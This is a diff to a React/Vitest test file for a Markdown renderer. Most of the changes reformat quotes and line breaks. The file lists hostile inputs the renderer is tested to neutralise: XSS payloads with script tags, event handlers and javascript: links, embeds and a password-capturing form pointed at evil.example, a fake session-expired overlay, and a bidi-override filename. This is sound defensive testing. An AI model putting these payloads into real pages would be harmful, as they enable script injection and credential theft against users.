@@ -1,4 +1,4 @@
-// What people, models and tools write can't act on the page, load from elsewhere or pass for the page itself.
+// Text of users, models and tools can't act on the page, load anything external or imitate the page itself.
 import { render } from "@testing-library/react";
 import { describe, expect, it } from "vitest";
 
@@ -6,15 +6,15 @@ import { Markdown, safeAddress } from "../src/components/Markdown";
 
 const HOSTILE = [
   "<script>window.taken = true</script>",
-  "<img src=x onerror=\"window.taken = true\">",
+  '<img src=x onerror="window.taken = true">',
   "<svg onload=alert(1)><circle/></svg>",
-  "<iframe src=\"https://evil.example\"></iframe>",
+  '<iframe src="https://evil.example"></iframe>',
   "<style>body { display: none }</style>",
   "<form action=https://evil.example><input name=password><button>Log in</button></form>",
-  "<a href=\"javascript:alert(1)\">x</a>",
+  '<a href="javascript:alert(1)">x</a>',
   "<link rel=stylesheet href=https://evil.example/x.css>",
   "<base href=https://evil.example/>",
-  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
   "<object data=https://evil.example></object><embed src=https://evil.example>",
   "<details open ontoggle=alert(1)><summary>x</summary></details>",
   "[x](javascript:alert(1))",
@@ -38,13 +38,15 @@ const HOSTILE = [
   "```html\n<script>alert(1)</script>\n```",
   "`<img src=x onerror=alert(1)>`",
   "- [ ] <input type=password>",
-  "<div style=\"position:fixed;inset:0\">Your session is over, log in</div>",
-  "[x](https://evil.example \"onmouseover=alert(1)\")",
+  '<div style="position:fixed;inset:0">Your session is over, log in</div>',
+  '[x](https://evil.example "onmouseover=alert(1)")',
   "\u202Egnp.exe [x](https://evil.example)",
 ];
 const ALLOWED = new Set(
-  ("DIV P A SPAN STRONG EM DEL CODE PRE BUTTON SVG PATH RECT LINE CIRCLE POLYLINE UL OL LI H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR " +
-    "TABLE THEAD TBODY TR TH TD INPUT SUP SECTION").split(" "),
+  (
+    "DIV P A SPAN STRONG EM DEL CODE PRE BUTTON SVG PATH RECT LINE CIRCLE POLYLINE UL OL LI H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR " +
+    "TABLE THEAD TBODY TR TH TD INPUT SUP SECTION"
+  ).split(" "),
 );
 
 describe("hostile text", () => {
@@ -73,7 +75,8 @@ describe("a link", () => {
   it("leads to the web and to mail, and nowhere else", () => {
     expect(safeAddress("https://example.org/a")).toBe("https://example.org/a");
     expect(safeAddress("mailto:ada@example.org")).toBe("mailto:ada@example.org");
-    for (const address of ["javascript:1", " javascript:1", "/settings", "#top", "ftp://x", ""]) expect(safeAddress(address)).toBeUndefined();
+    for (const address of ["javascript:1", " javascript:1", "/settings", "#top", "ftp://x", ""])
+      expect(safeAddress(address)).toBeUndefined();
   });
 });
 
